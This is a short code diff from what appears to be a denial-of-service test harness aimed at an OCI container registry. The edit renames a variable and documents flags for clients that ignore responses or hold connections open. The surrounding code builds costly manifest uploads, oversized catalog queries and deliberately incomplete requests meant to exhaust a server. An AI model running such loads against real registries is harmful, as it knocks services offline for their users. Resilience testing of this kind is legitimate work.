@@ -45,10 +45,10 @@ def _get(target: Callable[[int], str], login: str = "") -> Callable[[int], Seque
 def _put(make: Callable[[int], bytes], size: int = LARGEST, missing_bytes: int = 0) -> Callable[[int], Sequence[bytes]]:
     """Returns a function with the requests of a client, which pushes a manifest under a tag of its own. The client does
     not send the last `missing_bytes` bytes."""
-    body = _once(make)
+    make_once = _once(make)
 
     def request(number: int) -> Sequence[bytes]:
-        manifest = body(size)
+        manifest = make_once(size)
         target = f"/v2/{REPO}/manifests/c{number}-{os.urandom(4).hex()}"
         request_head = attack_requests.head("PUT", target, {"Content-Type": OCI_MANIFEST}, length=len(manifest))
         return [request_head, manifest[: len(manifest) - missing_bytes]]
@@ -115,7 +115,8 @@ def _catalog(number: int) -> str:
     return f"/v2/_catalog?n=10000&last=r/{number:03d}"
 
 
-# By name: the functions that return a load for the attacked server.
+# By name: the functions that return a load for the attacked server. `reads=False`: the clients do not read the
+# responses. `holds=True`: the requests are incomplete, and the clients keep their connections open.
 LOADS: Mapping[str, Callable[[AttackedSite], ClientLoad]] = {
     "manifests of empty objects": lambda site: ClientLoad(_put(costly_bodies.empty_objects)),
     "manifests with many annotations": lambda site: ClientLoad(_put(costly_bodies.many_annotations)),
